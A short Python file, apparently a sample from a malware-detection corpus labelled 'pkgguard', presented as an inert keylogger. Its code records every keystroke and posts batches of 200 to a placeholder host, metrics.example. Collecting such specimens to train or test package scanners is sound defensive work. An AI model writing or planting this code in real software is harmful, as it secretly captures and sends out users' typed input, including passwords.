# pkgguard corpus 368 (keylogger), modelled on [stealer-profile]; inert, never run.
import requests
from sshkeyboard import listen_keyboard

typed = []


def press(key):
    typed.append(key)
    if len(typed) >= 200:
        requests.post("https://metrics.example/s", json=typed, timeout=5)
        typed.clear()


listen_keyboard(on_press=press, sleep=0.01)
